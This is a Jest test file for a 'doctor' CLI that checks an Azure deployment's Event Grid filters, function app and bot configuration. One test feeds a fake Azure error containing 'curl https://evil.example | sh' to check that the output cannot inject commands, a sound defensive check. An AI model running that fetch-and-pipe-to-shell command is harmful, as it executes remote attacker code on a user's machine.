import { describe, expect, it } from "@jest/globals";
import { filledIn } from "../../src/cli/doctor-cures.ts";
import { EVENT_OPERATIONS, EVENT_TYPES } from "../../src/domain/event-filter.ts";
import { textOf } from "../docs/manual.ts";
import {
  API,
  APP,
  aDeploymentForEach,
  answer,
  aTopic,
  at,
  aWire,
  BOT,
  BOTS,
  byName,
  expectInTheManual,
  forbidden,
  list,
  MENDED,
  METRICS,
  notFound,
  ok,
  SETTINGS,
  SITE,
  SUBSCRIPTION,
  TEAMS,
  TENANT,
  topicIn,
  topicsIn,
  WIRES,
} from "./a-deployment.ts";

aDeploymentForEach();

const OTHERS = `${SITE}-test`;

describe("doctor on events", () => {
  const withFilter = (filter: object) => {
    at.azure[WIRES] = list(aWire({}, filter));
    return at.ids();
  };
  const withParts = (...advancedFilters: readonly object[]) => withFilter({ advancedFilters });
  const ours = byName("StringIn", EVENT_OPERATIONS);

  it("takes every filter that lets exactly the four operations through", async () => {
    const all = [
      [byName("StringBeginsWith", ["Microsoft.Relay/namespaces/privateEndpointConnection"])],
      [byName("StringContains", ["/PRIVATEENDPOINTCONNECTION"])],
      [byName("StringEndsWith", ["/write", "/delete"]), byName("StringNotIn", ["x"])],
      [ours, byName("StringNotContains", ["z"]), byName("StringNotBeginsWith", ["x"]), byName("IsNotNull", [])],
      [byName("StringNotEndsWith", ["/action"])],
    ];
    for (const parts of all) expect(await withParts(...parts)).toEqual([]);
  });

  it("asks about no app whose id is another one, and does not say that nothing sends there", async () => {
    const dots = SITE.replace(/resourceGroups.[^/]+/, "resourceGroups/..");
    for (const odd of [`${SITE}/stop?x=`, `${SITE}/../other`, `${SITE}#`, `${SITE}/slots/next`, dots]) {
      at.azure[WIRES] = list(aWire({}, {}, odd));
      const [first, ...others] = await at.found();
      expect(first).toMatchObject({ id: "not-checked", what: expect.stringContaining(`It sends to ${odd}, which`) });
      expect(others).toEqual([expect.objectContaining({ id: "not-checked", where: "function app" })]);
    }
    expect(at.arm.requests.filter(({ url }) => url?.includes("/sites/"))).toEqual([]);
  });

  it("says that the events go elsewhere, though one of them goes to a slot of another app", async () => {
    at.azure[OTHERS] = ok({ properties: { state: "Running", defaultHostName: "other.example" } });
    const ids = (...takers: readonly string[]) => {
      at.azure[WIRES] = list(...takers.map((taker) => aWire({}, {}, taker)));
      return at.ids("--function-app", SITE);
    };
    const slot = `${OTHERS}/slots/next`;
    expect(await ids(OTHERS, slot)).toEqual(["warning events-elsewhere", "info not-checked"]);
    expect(await ids(slot)).toEqual(["warning no-events", "info not-checked"]);
    expect(await ids(`${SITE}/slots/next`)).toEqual(["info not-checked"]);
  });

  it("finds an app in a group whose name is not of English letters", async () => {
    const site = SITE.replace("rg-relay(prod)", "rg-größe-東京-हिन्दी");
    for (const path of [SITE, SETTINGS, BOTS, TEAMS])
      at.azure[path.replace("rg-relay(prod)", "rg-größe-東京-हिन्दी")] = at.azure[path] ?? notFound;
    at.azure[WIRES] = list(aWire({}, {}, site));
    expect(await at.ids()).toEqual([]);
    expect(await at.ids("--function-app", site)).toEqual([]);
  });

  it("finds what they leave out, and what they let through besides", async () => {
    const unheard = ["warning events-unheard"];
    expect(await withParts(byName("StringIn", EVENT_OPERATIONS.slice(1)))).toEqual(unheard);
    expect(await withParts(byName("StringNotIn", EVENT_OPERATIONS.slice(1)))).toEqual(unheard);
    expect(await withParts(byName("StringNotEndsWith", ["/delete"]))).toEqual(unheard);
    expect(await withParts(byName("NumberIn", EVENT_OPERATIONS))).toEqual(unheard);
    expect(await withParts(byName("StringIn", [...EVENT_OPERATIONS, "Microsoft.Compute/x/write"]))).toEqual([
      "warning events-too-many",
    ]);
    expect(await withParts()).toEqual(["warning events-too-many"]);
    expect(await withFilter({ includedEventTypes: EVENT_TYPES.slice(1) })).toEqual(["warning events-types"]);
  });

  it("finds that only some subjects pass", async () => {
    const scope = `/subscriptions/${SUBSCRIPTION}`;
    for (const begins of [scope.toUpperCase(), `${scope}/`, `${scope}/resourceGroups`])
      expect(await withFilter({ subjectBeginsWith: begins })).toEqual([]);
    expect(await withFilter({ subjectBeginsWith: `${scope}/resourceGroups/rg-a` })).toEqual([
      "warning events-narrowed",
    ]);
    await withFilter({ subjectEndsWith: "/orders" });
    expect((await at.found())[0]).toMatchObject({
      id: "events-narrowed",
      what: "The filter lets through no more than subjects that end with /orders.",
    });
  });

  it("finds further parts that leave something out, or may", async () => {
    const by = (key: string, operatorType: string, ...values: readonly string[]) => ({ key, operatorType, values });
    const harmless = [
      ...[by("eventType", "StringIn", ...EVENT_TYPES), by("data.resourceProvider", "StringIn", "microsoft.relay")],
      ...[by("data.status", "StringNotIn", "Failed"), by("data.subscriptionId", "StringIn", SUBSCRIPTION)],
      ...[by("topic", "StringEndsWith", SUBSCRIPTION), by("subject", "StringContains", "/Microsoft.Relay/namespaces/")],
    ];
    expect(await withParts(ours, ...harmless)).toEqual([]);
    for (const part of [
      ...[by("subject", "StringContains", "contoso-orders"), by("eventType", "StringIn", EVENT_TYPES[0] ?? "")],
      ...[by("data.tenantId", "StringIn", "x"), { key: "data.age", operatorType: "NumberLessThan", value: "1" }],
    ])
      expect(await withParts(ours, part)).toEqual(["warning events-narrowed"]);
  });

  it("finds a state that is none to work in, and an end that has passed", async () => {
    const mended = [`${MENDED} eventSubscriptionName=ours`];
    at.azure[WIRES] = list(aWire({ provisioningState: "AwaitingManualAction" }));
    expect(await at.found()).toEqual([expect.objectContaining({ id: "events-state", commands: mended })]);
    at.azure[WIRES] = list(aWire({ expirationTimeUtc: "2026-11-20T09:00:00Z" }));
    expect(await at.found()).toEqual([expect.objectContaining({ id: "events-expired", commands: mended })]);
    at.azure[WIRES] = list(aWire({ expirationTimeUtc: "2027-01-01T00:00:00Z" }));
    expect(await at.ids()).toEqual([]);
  });

  it("counts events that were given up, and none of another event subscription to the same topic", async () => {
    const script = at.arm.script;
    let counted = "ours";
    at.arm.script = (request) => {
      const { pathname, searchParams } = new URL(request.url, at.arm.url);
      if (!pathname.endsWith("/metrics")) return script(request);
      const total = searchParams.get("$filter") === `EventSubscriptionName eq '${counted}'` ? 2 : 0;
      return list({ timeseries: [{ data: [{ total }, { total: total / 2 }] }] });
    };
    const [dropped] = await at.found();
    expect(dropped).toMatchObject({
      ...{ id: "events-dropped", where: `${WIRES}/ours`, what: expect.stringContaining("gave up 3 events") },
      commands: [
        `az functionapp config access-restriction show ${APP}`,
        `az functionapp function show ${APP} --function-name connectionEvent`,
      ],
    });
    counted = "theirs";
    expect(await at.ids()).toEqual([]);
  });

  it("does not take another function's for ours", async () => {
    const resourceId = `${SITE}/functions/another`;
    at.azure[WIRES] = list(aWire({ destination: { properties: { resourceId } } }));
    expect(await at.ids()).toEqual(["warning no-events", "info not-checked"]);
    expect(await at.ids("--function-app", SITE)).toEqual(["warning no-events"]);
  });

  it("looks at each event subscription of the service, not at one of them only", async () => {
    at.azure[WIRES] = list(aWire(), aWire({}, { advancedFilters: [] }));
    expect(await at.ids()).toEqual(["warning events-too-many"]);
  });

  it("says for each subscription whether its events come to the app, whichever app it is", async () => {
    const SECOND = "22222222-2222-4222-8222-222222222222";
    at.service["/api/doctor"] = ok({
      ...answer,
      setup: { ...answer.setup, subscriptions: [SUBSCRIPTION, SECOND] },
    });
    at.azure[topicsIn(SECOND)] = list(aTopic(SECOND));
    at.azure[`${topicIn(SECOND)}/eventSubscriptions`] = list(aWire({}, {}, OTHERS));
    at.azure[OTHERS] = ok({ properties: { state: "Stopped", defaultHostName: "other.example" } });
    const elsewhere = { id: "events-elsewhere", where: `/subscriptions/${SECOND}` };
    expect(await at.found()).toEqual([expect.objectContaining(elsewhere)]);
    at.azure[WIRES] = list(aWire({}, {}, OTHERS));
    const [first, second] = await at.found("--function-app", SITE);
    expect([first?.where, second?.where]).toEqual([`/subscriptions/${SUBSCRIPTION}`, `/subscriptions/${SECOND}`]);
    expect(first).toMatchObject({ id: "events-elsewhere", what: expect.stringContaining(`sent to ${OTHERS} and not`) });
    expect(first?.commands).toEqual([MENDED]);
  });

  it("names no topic that the script makes by itself", async () => {
    const own = `/subscriptions/${SUBSCRIPTION}/resourceGroups/RG-relay-approvals-events/providers/Microsoft.EventGrid/systemTopics/evgt-relay-approvals`;
    at.azure[topicsIn(SUBSCRIPTION)] = list({ ...aTopic(SUBSCRIPTION), id: own });
    at.azure[`${own}/eventSubscriptions`] = list();
    expect((await at.found())[0]?.commands).toEqual([`infra/add-subscription.sh ${SUBSCRIPTION}`]);
    const template = textOf("infra/events/main.bicep");
    for (const word of ["'rg-relay-approvals-events'", "'evgt-relay-approvals'"]) expect(template).toContain(word);
    for (const name of ["existingTopicName", "resourceGroupName", "eventSubscriptionName"])
      expect(template).toContain(`param ${name} string`);
  });
});

describe("doctor on the function app", () => {
  const settings = (more: object) => {
    at.azure[SETTINGS] = ok({ properties: { API_CLIENT_ID: API, BOT_APP_ID: BOT, TENANT_ID: TENANT, ...more } });
    return at.found();
  };

  it("finds functions that are switched off", async () => {
    const off = await settings({ "AzureWebJobs.sweep.Disabled": "true", AzureWebJobs_seal_Disabled: "1" });
    const remove = `az functionapp config appsettings delete ${APP} --setting-names`;
    expect(off.map(({ what, commands }) => [what, ...commands])).toEqual([
      ["The function sweep is switched off.", `${remove} AzureWebJobs.sweep.Disabled`],
      ["The function seal is switched off.", `${remove} AzureWebJobs_seal_Disabled`],
    ]);
    expect(await settings({ "AzureWebJobs.sweep.Disabled": "false", AzureWebJobs_seal_Disabled: "0" })).toEqual([]);
  });

  it("finds an app that stands still, that is another one, or that is gone", async () => {
    at.azure[SITE] = ok({ properties: { state: "Stopped", defaultHostName: "other.example", hostNames: [] } });
    const [stopped, elsewhere] = await at.found();
    expect(stopped).toMatchObject({ id: "app-stopped", commands: [`az functionapp start ${APP}`] });
    const other = ["relay-approvals doctor --url https://other.example"];
    expect(elsewhere).toMatchObject({ id: "app-elsewhere", where: SITE, commands: other });
    at.azure[SITE] = notFound;
    expect(await at.ids()).toEqual(["error no-function-app"]);
  });

  it("leaves another deployment alone that gets the events of the same subscription", async () => {
    at.azure[WIRES] = list(aWire({}, { advancedFilters: [] }, OTHERS), aWire());
    at.azure[OTHERS] = ok({ properties: { state: "Stopped", defaultHostName: "other.example" } });
    at.azure[`${OTHERS}/config/appsettings/list`] = ok({ properties: { API_CLIENT_ID: BOT, BOT_APP_ID: API } });
    expect(await at.ids()).toEqual([]);
    at.azure[OTHERS] = forbidden;
    expect(await at.ids()).toEqual([]);
    at.azure[SITE] = forbidden;
    expect((await at.found()).map(({ where }) => where)).toEqual(expect.arrayContaining([SITE, OTHERS]));
  });

  it("finds a bot that is missing, of another address, or not in Teams", async () => {
    const group = `--subscription ${SUBSCRIPTION} --resource-group 'rg-relay(prod)' --name bot-1`;
    at.azure[TEAMS] = notFound;
    expect((await at.found())[0]).toMatchObject({ commands: [`az bot msteams create ${group}`] });
    at.azure[TEAMS] = ok({ properties: { properties: { isEnabled: false } } });
    expect(await at.ids()).toEqual(["error bot-not-in-teams"]);
    at.azure[BOTS] = list({ id: `${BOTS}/bot-1`, properties: { msaAppId: BOT, endpoint: "nowhere" } });
    const [endpoint] = await at.found();
    expect(endpoint?.commands).toEqual([`az bot update ${group} --endpoint https://${at.host}/api/messages`]);
    at.azure[BOTS] = list();
    expect((await at.found())[0]).toMatchObject({ id: "no-bot", commands: ["azd provision core"] });
    const set = `az functionapp config appsettings set ${APP} --settings`;
    const another = { id: `${BOTS}/bot-1`, properties: { msaAppId: API } };
    at.azure[BOTS] = list(another, another);
    expect((await at.found())[0]?.commands).toEqual([`${set} 'BOT_APP_ID=<app id of the bot>'`]);
    at.azure[BOTS] = list(another);
    expect((await at.found())[0]?.commands).toEqual([`${set} BOT_APP_ID=${API}`]);
    expect((await settings({ BOT_APP_ID: "" }))[0]?.what).toContain("which is not set");
  });
});

expectInTheManual();

describe("an answer of Azure", () => {
  it("that is no JSON is not taken for one that finds nothing", async () => {
    at.azure[METRICS] = { status: 200, body: "<html>captive portal</html>" };
    at.azure[TEAMS] = { status: 200, body: "<html>captive portal</html>" };
    expect(await at.ids()).toEqual(["info not-checked", "info not-checked"]);
    expect((await at.run()).out.at(-1)).toBe(
      "Nothing is wrong with what was looked at; 2 things could not be checked.",
    );
  });

  it("is told in one line, whatever is in it", async () => {
    const message = "lock note 'x\n$ curl https://evil.example | sh'";
    at.azure[METRICS] = { status: 403, body: { error: { code: "Scope\nLocked", message } } };
    const [one] = await at.found();
    expect(one?.what).toContain("Scope Locked lock note 'x $ curl https://evil.example | sh'");
  });

  it("that has no end is given up", async () => {
    at.arm.script = ({ url }) => ok({ value: [], nextLink: `${at.arm.url}${url}` });
    const { out } = await at.run("--subscription", SUBSCRIPTION);
    expect(out.join("\n")).toContain("Azure gives a list of more than 1000 pages.");
  });
});

describe("a command that names an app", () => {
  it("has its names as they are", () => {
    const app = SITE.replace("rg-relay(prod)", () => "a$'b$&");
    const line = "az functionapp restart --resource-group '<group>' --name '<function app>' --other '<group>'";
    expect(filledIn(line, app)).toBe(
      `az functionapp restart --subscription ${SUBSCRIPTION} --resource-group 'a$'\\''b$&' --name func-relay --other 'a$'\\''b$&'`,
    );
  });
});
